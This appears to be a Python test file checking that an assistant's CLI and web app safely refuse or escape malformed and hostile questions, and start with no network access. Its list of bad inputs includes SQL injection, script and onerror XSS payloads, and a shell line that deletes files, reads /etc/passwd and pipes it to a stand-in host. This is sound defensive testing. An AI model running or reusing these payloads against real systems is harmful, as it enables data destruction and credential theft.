"""Hostile and broken questions, through the CLI and the app, and no network, ever."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap

import pytest

from assistant.cli import main
from assistant.core import Assistant
from assistant.web.tabs import ask as ask_tab
from assistant.web.tabs import themes as themes_tab
from tests.served_app import ROOT, app_env, make_corpus, serve

LIMIT = 1000  # Settings.max_question_chars
BAD_QUESTIONS = {
    "empty": "",
    "whitespace only": " \t\n  ",
    "one character": "x",
    "100,000 characters": "neglect " * 12_500,
    "NUL and control characters": "forced\x00 marriage\x07\x1b[31m\x7f",
    "emoji": "\U0001f476\U0001f3fd safeguarding \U0001f6a8\U0001f6a8",
    "right-to-left text": "\u0632\u0648\u0627\u062c \u0642\u0633\u0631\u064a forced marriage",
    "bidi override": "\u202eegairram decrof\u202c",
    "zero-width characters": "forced\u200b marriage\u200d\ufeff",
    "SQL": "'; DROP TABLE reviews; -- OR 1=1",
    "shell": "$(rm -rf /) `reboot` && cat /etc/passwd | nc evil.example 80",
    "script tag": "<script>alert('q')</script> forced marriage",
    "img onerror": '<img src=x onerror="alert(1)"> neglect',
    "javascript link": "[click me](javascript:alert(1)) what about neglect?",
    "remote image": "![track](http://evil.example/pixel.png) domestic abuse",
    "HTML entity tricks": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;",
    "Markdown heading and table": "# Big\n| a | b |\n|---|---|\n| c | d |",
}
LIVE_MARKUP = ("<script", "<img", "](javascript", "![", "<b>", "\n# Big")


@pytest.fixture
def cli_env(settings, fake_encoder, monkeypatch):
    monkeypatch.setenv("ASSISTANT_CORPUS_DIR", str(settings.corpus_dir))
    monkeypatch.setenv("ASSISTANT_INDEX_DIR", str(settings.index_dir))


@pytest.mark.parametrize("name", list(BAD_QUESTIONS))
def test_the_cli_answers_or_explains_every_bad_question(cli_env, capsys, name):
    question = BAD_QUESTIONS[name]
    code = main(["ask", question])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    if code == 2:  # refused, with a message saying why
        assert "Please type a question" in err or f"under {LIMIT}" in err
    else:
        assert code == 0 and out.startswith("Q: ")
    assert main(["ask", "--json", question]) == 0
    row = json.loads(capsys.readouterr().out)  # one valid JSON line, always
    assert set(row) >= {"question", "abstained", "answer", "citations"}


@pytest.fixture
def assistant(settings, fake_encoder):
    return Assistant(settings, encoder=fake_encoder)


def respond(assistant, question):
    return ask_tab.respond(lambda: assistant, question, [], None, None, None, None, None, {})


@pytest.mark.parametrize("name", list(BAD_QUESTIONS))
def test_the_app_answers_every_bad_question_with_inert_text(assistant, name):
    messages, _, _ = respond(assistant, BAD_QUESTIONS[name])
    shown = "\n".join(m.content for m in messages)
    assert shown.strip() and "Traceback" not in shown
    for markup in LIVE_MARKUP:
        assert markup not in shown, markup
    view, _ = themes_tab.show_theme(assistant, BAD_QUESTIONS[name])
    for markup in LIVE_MARKUP:
        assert markup not in view, markup


def test_overlong_questions_are_refused_with_the_limit_stated(assistant):
    messages, _, _ = respond(assistant, "a" * (LIMIT + 1))
    assert f"please keep it under {LIMIT}" in messages[0].content


@pytest.mark.real_model
def test_the_running_app_refuses_or_escapes_bad_questions(served_app):
    from gradio_client import Client

    url, _ = served_app
    client = Client(url, verbose=False)
    for name in ("100,000 characters", "NUL and control characters", "script tag", "remote image"):
        messages, _ = client.predict(BAD_QUESTIONS[name], [], [], [], None, None, api_name="/chat")
        shown = "\n".join(m["content"] for m in messages)
        assert shown and "Traceback" not in shown, name
        for markup in LIVE_MARKUP:
            assert markup not in shown, (name, markup, shown[:3000])


# --- No network ---------------------------------------------------------------------------

GUARD = textwrap.dedent(
    """
    # Loaded at start-up through PYTHONPATH. An audit hook sees every socket connect,
    # send and name lookup, and every subprocess: anything not on this machine is logged
    # and refused, so a test can prove that no code path reaches out.
    import ipaddress, os, sys
    LOG = os.environ["NETWORK_GUARD_LOG"]

    def local(host):
        if host in (None, "", "localhost"):
            return True
        try:
            return ipaddress.ip_address(str(host).split("%")[0]).is_loopback
        except ValueError:
            return False

    def refuse(event, what):
        with open(LOG, "a") as fh:
            fh.write(f"{event} {what!r}\\n")
        raise OSError(f"network access refused by the test guard: {event} {what!r}")

    def hook(event, args):
        if event in ("socket.connect", "socket.sendto", "socket.sendmsg"):
            address = args[1] if len(args) > 1 else None
            if isinstance(address, tuple) and not local(address[0]):
                refuse(event, address)
        elif event in ("socket.getaddrinfo", "socket.gethostbyname"):
            if not local(args[0]):
                refuse(event, args[0])
        elif event == "subprocess.Popen":
            with open(LOG, "a") as fh:
                fh.write(f"subprocess {args[1]!r}\\n")

    sys.addaudithook(hook)
    """
)


@pytest.mark.real_model
def test_cli_and_app_start_and_answer_with_no_network(tmp_path):
    guard = tmp_path / "guard"
    guard.mkdir()
    (guard / "sitecustomize.py").write_text(GUARD)
    log = tmp_path / "network.log"
    make_corpus(tmp_path)
    # Without HF_HUB_OFFLINE too: the model must load from local files regardless.
    env = {**app_env(tmp_path), "PYTHONPATH": str(guard), "NETWORK_GUARD_LOG": str(log)}
    env.pop("HF_HUB_OFFLINE")
    env.pop("TRANSFORMERS_OFFLINE", None)
    env.pop("ASSISTANT_ENCODER_FOLDER")  # the one-off ONNX export runs under the guard too
    # The guard works: lookups, connections and datagrams to outside hosts are refused.
    for probe in (
        "import socket; socket.getaddrinfo('localhost.example.org', 80)",
        "import socket; socket.create_connection(('93.184.216.34', 80), timeout=1)",
        "import socket; socket.socket(socket.AF_INET6).connect_ex(('2606:2800::1', 80))",
        "import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
    ):
        run = subprocess.run([sys.executable, "-c", probe], env=env, capture_output=True)
        assert run.returncode != 0 and b"refused by the test guard" in run.stderr, probe
    assert len(log.read_text().splitlines()) == 4
    log.unlink()
    for args in (["index"], ["ask", "what did reviews say about forced marriage?"]):
        run = subprocess.run(
            [sys.executable, "-m", "assistant", *args],
            cwd=ROOT, env=env, capture_output=True, text=True,
        )  # fmt: skip
        assert run.returncode == 0, run.stderr[-800:]
    assert "Forced marriage" in run.stdout
    extra = {"PYTHONPATH": str(guard), "NETWORK_GUARD_LOG": str(log), "HF_HUB_OFFLINE": "0"}
    with serve(tmp_path, **extra) as url:
        from gradio_client import Client

        messages, _ = Client(url, verbose=False).predict(
            "forced marriage", [], [], [], None, None, api_name="/chat"
        )
        assert "Forced marriage" in messages[0]["content"]
    assert not log.exists(), log.read_text()


# --- Bad corpus files, all at once ---------------------------------------------------------


def test_a_corpus_full_of_bad_files_still_indexes_the_good_one(settings, fake_encoder):
    from tests.test_formats import BAD_FILES

    corpus = settings.corpus_dir
    for name, (data, _) in BAD_FILES.items():
        (corpus / name).write_bytes(data)
    (corpus / "latin1.md").write_bytes(
        "# Review \xe9\n\nSummary\n\nCaf\xe9 text.".encode("latin-1")
    )
    (corpus / "deep.html").write_bytes(b"<html><body>" + b"<div>" * 20000 + b"</div>" * 20000)
    with (corpus / "huge.md").open("wb") as fh:
        fh.truncate(50 * 2**20)
    index = Assistant(settings, encoder=fake_encoder).index
    assert index.manifest.counts["reviews"] == 5 + 1  # the seed's five, and latin1.md
    errors = {s.file: s.error for s in index.sources if s.error}
    assert set(errors) >= {*BAD_FILES, "huge.md"}
    for name, (_, message) in BAD_FILES.items():
        assert errors[name].startswith(message)
    assert all("\n" not in e and "Traceback" not in e for e in errors.values())
    warnings = [w for s in index.sources for w in s.warnings]
    assert any(w.startswith("latin1.md: is not UTF-8") for w in warnings)
